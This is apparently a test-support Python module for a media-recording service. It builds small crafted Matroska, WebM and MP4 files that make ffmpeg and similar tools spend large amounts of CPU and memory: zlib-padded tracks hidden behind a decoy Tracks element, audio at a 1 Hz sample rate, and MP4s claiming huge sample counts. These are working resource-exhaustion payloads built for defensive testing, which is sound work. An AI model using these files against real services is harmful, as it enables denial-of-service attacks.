"""Small files built to make processing cost far more than their size: what attackers upload.

Matroska is written element by element (https://www.matroska.org/technical/elements.html), MP4 box
by box (ISO/IEC 14496-12); each builder says what the file claims and why that is expensive.
"""

import random
import struct
import subprocess
import zlib
from pathlib import Path

from recordings import utils

UNKNOWN_SIZE = b"\x01\xff\xff\xff\xff\xff\xff\xff"


# --- Matroska --------------------------------------------------------------------------------------


def _vint(data: bytes, position: int, *, keep_marker: bool = False) -> tuple[int, int]:
    first = data[position]
    width = 8 - first.bit_length() + 1
    value = first if keep_marker else first & (0xFF >> width)
    all_ones = value == (0xFF >> width)
    for byte in data[position + 1 : position + width]:
        value = (value << 8) | byte
        all_ones = all_ones and byte == 0xFF
    return (-1 if all_ones and not keep_marker else value), position + width


def elements(data: bytes, start: int = 0, end: int | None = None) -> list[tuple[int, bytes, bytes]]:
    """(id, the whole element, its payload) of each element in data[start:end]."""
    end = len(data) if end is None else end
    found = []
    while start < end:
        element_id, position = _vint(data, start, keep_marker=True)
        size, position = _vint(data, position)
        size = end - position if size == -1 else size
        found.append((element_id, data[start : position + size], data[position : position + size]))
        start = position + size
    return found


def element(element_id: int, payload: bytes) -> bytes:
    width = 1
    while len(payload) >= (1 << (7 * width)) - 1:
        width += 1
    return (
        element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
        + ((1 << (7 * width)) | len(payload)).to_bytes(width, "big")
        + payload
    )


def unsigned(element_id: int, value: int, width: int | None = None) -> bytes:
    return element(element_id, value.to_bytes(width or max(1, (value.bit_length() + 7) // 8), "big"))


def hidden_compressed_tracks(compressed: Path, destination: Path, *, padding_bytes: int) -> Path:
    """From a Matroska file whose tracks are zlib-compressed (mkvmerge --compression N:zlib): the
    compressed Tracks hidden inside an Info element made invalid (a 9-byte TimecodeScale), then a
    clean decoy Tracks. A reader that follows the structure sees only the decoy; ffmpeg resyncs
    inside Info, uses the hidden tracks, and inflates every frame, each padded with zeros."""
    data = compressed.read_bytes()
    ebml_header, segment = elements(data)[:2]
    children = elements(data, len(data) - len(segment[2]), len(data))
    compressed_tracks = next(whole for element_id, whole, _ in children if element_id == 0x1654AE6B)

    def padded(block: bytes) -> bytes:
        track, position = _vint(block, 0)
        head, frame = block[: position + 3], block[position + 3 :]
        if track == 2 and padding_bytes:  # the video track of a Chrome recording
            frame = zlib.compress(zlib.decompress(frame) + bytes(padding_bytes), 9)
        return head + frame

    clusters = []
    for element_id, _, payload in children:
        if element_id != 0x1F43B675:
            continue
        body = b""
        for child_id, whole, child in elements(payload):
            body += element(0xA3, padded(child)) if child_id == 0xA3 else whole
        clusters.append(element(0x1F43B675, body))
    decoy = element(
        0x1654AE6B,
        element(0xAE, unsigned(0xD7, 99) + unsigned(0x73C5, 99) + unsigned(0x83, 0x11) + element(0x86, b"S_TEXT/UTF8")),
    )
    damaged_info = element(0x1549A966, element(0x2AD7B1, bytes(8) + b"\x01") + compressed_tracks)
    segment_start = bytes.fromhex("18538067") + UNKNOWN_SIZE
    destination.write_bytes(ebml_header[1] + segment_start + damaged_info + decoy + b"".join(clusters))
    return destination


def with_damaged_info(recording: bytes) -> bytes:
    """A recording whose Info element holds a TimecodeScale of 9 bytes (integers have at most 8):
    damage a demuxer reports, then skips by scanning for the next element it knows."""
    ebml_header, segment = elements(recording)[:2]
    children = elements(recording, len(recording) - len(segment[2]), len(recording))
    rebuilt = b""
    for element_id, whole, payload in children:
        if element_id == 0x1549A966:
            whole = element(0x1549A966, element(0x2AD7B1, bytes(8) + b"\x01") + payload)
        rebuilt += whole
    return ebml_header[1] + bytes.fromhex("18538067") + UNKNOWN_SIZE + rebuilt


def _write_webm(destination: Path, track_entry: bytes, clusters: bytes) -> Path:
    """A live WebM as browsers write it: a Segment of unknown size, Info, one track, clusters."""
    info = element(0x1549A966, unsigned(0x2AD7B1, 1_000_000))
    segment = bytes.fromhex("18538067") + UNKNOWN_SIZE + info + element(0x1654AE6B, track_entry) + clusters
    destination.write_bytes(_webm_header() + segment)
    return destination


def _webm_header() -> bytes:
    return element(
        0x1A45DFA3,
        unsigned(0x4286, 1)
        + unsigned(0x42F7, 1)
        + unsigned(0x42F2, 4)
        + unsigned(0x42F3, 8)
        + element(0x4282, b"webm")
        + unsigned(0x4287, 4)
        + unsigned(0x4285, 2),
    )


def opus_of_empty_packets(destination: Path, *, packets: int = 4096) -> Path:
    """Opus packets of one byte each (a TOC saying "60 ms of silence"), 256 to a block by lacing:
    4 KB that decode to minutes of audio, each minute an MP3 of a megabyte."""
    opus_head = b"OpusHead" + bytes([1, 1]) + struct.pack("<HIhB", 312, 48000, 0, 0)
    audio = element(0xE1, element(0xB5, struct.pack(">d", 48000.0)) + unsigned(0x9F, 1))
    track = element(
        0xAE,
        unsigned(0xD7, 1)
        + unsigned(0x73C5, 1)
        + unsigned(0x83, 2)
        + element(0x86, b"A_OPUS")
        + element(0x63A2, opus_head)
        + audio,
    )
    laced = b"\x18" * 256  # fixed-size lacing: 256 frames of one byte
    clusters = b"".join(
        element(
            0x1F43B675, unsigned(0xE7, number * 256 * 60) + element(0xA3, b"\x81\x00\x00\x84" + bytes([255]) + laced)
        )
        for number in range(packets // 256)
    )
    return _write_webm(destination, track, clusters)


def pcm_at_one_hertz(destination: Path, *, samples: int = 2048) -> Path:
    """2 KB of 8-bit PCM declared at a sampling rate of 1 Hz: 34 minutes of audio, each sample
    resampled into 48,000 for Opus and MP3: seconds of encoding and megabytes per few bytes."""
    audio = element(0xE1, element(0xB5, struct.pack(">d", 1.0)) + unsigned(0x9F, 1) + unsigned(0x6264, 8))
    track = element(
        0xAE, unsigned(0xD7, 1) + unsigned(0x73C5, 1) + unsigned(0x83, 2) + element(0x86, b"A_PCM/INT/LIT") + audio
    )
    clusters = b"".join(  # a cluster of one 256-sample block every 256 s
        element(0x1F43B675, unsigned(0xE7, number * 256_000) + element(0xA3, b"\x81\x00\x00\x80" + b"\x80" * 256))
        for number in range(samples // 256)
    )
    return _write_webm(destination, track, clusters)


# --- MP4 ----------------------------------------------------------------------------------------------


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _full_box(kind: bytes, version: int, flags: int, payload: bytes) -> bytes:
    return _box(kind, struct.pack(">I", (version << 24) | flags) + payload)


def mp4_claiming_samples(
    destination: Path, *, samples: int, video_sample_delta: int = 1, with_video: bool = True
) -> Path:
    """A 1 KB MP4 whose sample tables claim `samples` video and audio samples, all the same 64
    bytes (single stts/stsc/stsz entries): ffmpeg builds an index entry for each. With a sample
    delta of 0 it prints no frame rate, which moviepy's parser does not expect."""
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    movie_header = _full_box(
        b"mvhd",
        0,
        0,
        struct.pack(">IIII", 0, 0, 1000, 1000)
        + struct.pack(">IH", 0x10000, 0x100)
        + bytes(10)
        + matrix
        + bytes(24)
        + struct.pack(">I", 3),
    )

    def track(track_id: int, kind: str, data_offset: int) -> bytes:
        is_video = kind == "vide"
        track_header = _full_box(
            b"tkhd",
            0,
            3,
            struct.pack(">IIIII", 0, 0, track_id, 0, 1000)
            + bytes(8)
            + struct.pack(">HHHH", 0, 0, 0 if is_video else 0x100, 0)
            + matrix
            + (struct.pack(">II", 16 << 16, 16 << 16) if is_video else bytes(8)),
        )
        media_header = _full_box(
            b"mdhd",
            0,
            0,
            struct.pack(">IIII", 0, 0, 100_000 if is_video else 8000, 1000) + struct.pack(">HH", 0x55C4, 0),
        )
        handler = _full_box(b"hdlr", 0, 0, bytes(4) + kind.encode() + bytes(12) + b"h\0")
        if is_video:
            media_info_header = _full_box(b"vmhd", 0, 1, bytes(8))
            entry = (
                bytes(6)
                + struct.pack(">H", 1)
                + bytes(16)
                + struct.pack(">HHII", 16, 16, 0x480000, 0x480000)
                + bytes(4)
                + struct.pack(">H", 1)
                + bytes(32)
                + struct.pack(">Hh", 24, -1)
            )
            sample_description = _full_box(b"stsd", 0, 0, struct.pack(">I", 1) + _box(b"jpeg", entry))
            sample_sizes = _full_box(b"stsz", 0, 0, struct.pack(">II", 1, samples))
            times = _full_box(b"stts", 0, 0, struct.pack(">III", 1, samples, video_sample_delta))
        else:
            media_info_header = _full_box(b"smhd", 0, 0, bytes(4))
            entry = bytes(6) + struct.pack(">H", 1) + bytes(8) + struct.pack(">HHHHI", 1, 16, 0, 0, 8000 << 16)
            sample_description = _full_box(b"stsd", 0, 0, struct.pack(">I", 1) + _box(b"alaw", entry))
            sample_sizes = _full_box(b"stsz", 0, 0, struct.pack(">II", 3, samples))
            times = _full_box(b"stts", 0, 0, struct.pack(">III", 1, samples, 0))
        data_references = _box(b"dinf", _full_box(b"dref", 0, 0, struct.pack(">I", 1) + _full_box(b"url ", 0, 1, b"")))
        chunks = _full_box(b"stsc", 0, 0, struct.pack(">IIII", 1, 1, samples, 1))
        offsets = _full_box(b"stco", 0, 0, struct.pack(">II", 1, data_offset))
        sample_table = _box(b"stbl", sample_description + times + chunks + sample_sizes + offsets)
        media = _box(
            b"mdia", media_header + handler + _box(b"minf", media_info_header + data_references + sample_table)
        )
        return _box(b"trak", track_header + media)

    file_type = _box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isomiso2mp41")

    def movie(data_offset: int) -> bytes:
        video = track(1, "vide", data_offset) if with_video else b""
        return file_type + _box(b"moov", movie_header + video + track(2, "soun", data_offset))

    head_bytes = len(movie(0))
    destination.write_bytes(movie(head_bytes + 8) + _box(b"mdat", b"\xff" * 64))
    return destination


# --- MP4 boxes, and a recorder's frame times ---------------------------------------------------------

_MP4_CONTAINER_BOXES = {b"moov", b"trak", b"mdia", b"minf", b"stbl", b"edts", b"udta"}
_MP4_BOX_PREFIX = {b"stsd": 8, b"avc1": 78}  # bytes before the child boxes of these


def _mp4_boxes(data: bytes) -> list[tuple[bytes, bytes]]:
    boxes, offset = [], 0
    while offset < len(data):
        size, kind = struct.unpack(">I4s", data[offset : offset + 8])
        boxes.append((kind, data[offset + 8 : offset + size]))
        offset += size
    return boxes


def _find_box(data: bytes, wanted: bytes) -> bytes | None:
    for kind, body in _mp4_boxes(data):
        if kind == wanted:
            return body
        if kind in _MP4_CONTAINER_BOXES or kind in _MP4_BOX_PREFIX:
            found = _find_box(body[_MP4_BOX_PREFIX.get(kind, 0) :], wanted)
            if found is not None:
                return found
    return None


def _with_box(data: bytes, kind_replaced: bytes, body_replaced: bytes) -> bytes:
    rebuilt = b""
    for kind, body in _mp4_boxes(data):
        if kind == kind_replaced:
            body = body_replaced
        elif kind in _MP4_CONTAINER_BOXES or kind in _MP4_BOX_PREFIX:
            prefix = _MP4_BOX_PREFIX.get(kind, 0)
            body = body[:prefix] + _with_box(body[prefix:], kind_replaced, body_replaced)
        rebuilt += struct.pack(">I4s", 8 + len(body), kind) + body
    return rebuilt


def with_avcc_of(frames: Path, header: Path, destination: Path) -> Path:
    """`frames`' MP4 (moov last, as ffmpeg writes it without faststart) with `header`'s avcC: a
    header that says one thing of the H.264 stream while its own parameter sets say another."""
    data = frames.read_bytes()
    boxes = _mp4_boxes(data)
    assert boxes[-1][0] == b"moov", "the moov must come last"
    moov_start = len(data) - 8 - len(boxes[-1][1])
    avcc = _find_box(header.read_bytes(), b"avcC")
    assert avcc is not None
    destination.write_bytes(data[:moov_start] + _with_box(data[moov_start:], b"avcC", avcc))
    return destination


def jittery_vp8(directory: Path, *, frames: int, mean_gap_ms: float, jitter_ms: float) -> Path:
    """1280x720 VP8 in WebM with a recorder's frame times: `mean_gap_ms` apart, give or take a
    normal jitter, in 1 ms timecodes, with no DefaultDuration (as Chrome writes it)."""
    ivf = directory / "still.ivf"
    utils.run_ffmpeg(
        [
            *("-f", "lavfi", "-i", "testsrc2=size=1280x720:rate=30", "-frames:v", str(frames)),
            *("-c:v", "libvpx", "-deadline", "realtime", "-cpu-used", "16", "-b:v", "500k", str(ivf)),
        ],
        limits=utils.Limits(timeout_seconds=120),
    )
    data = ivf.read_bytes()
    header_bytes = struct.unpack("<H", data[6:8])[0]
    header = bytearray(data[:header_bytes])
    struct.pack_into("<II", header, 16, 1000, 1)  # a 1 ms time base
    jittered, offset, time_ms, random_times = bytearray(header), header_bytes, 0.0, random.Random(1)
    while offset < len(data):
        size = struct.unpack("<I", data[offset : offset + 4])[0]
        jittered += struct.pack("<IQ", size, round(time_ms)) + data[offset + 12 : offset + 12 + size]
        offset += 12 + size
        time_ms += max(1.0, random_times.gauss(mean_gap_ms, jitter_ms))
    jittered_ivf = directory / "jittery.ivf"
    jittered_ivf.write_bytes(jittered)
    webm = directory / "jittery.webm"
    utils.run_ffmpeg(["-i", str(jittered_ivf), "-c", "copy", "-f", "webm", str(webm)], limits=utils.Limits(60))
    subprocess.run(["mkvpropedit", "-q", str(webm), "--edit", "track:v1", "--delete", "default-duration"], check=True)
    return webm
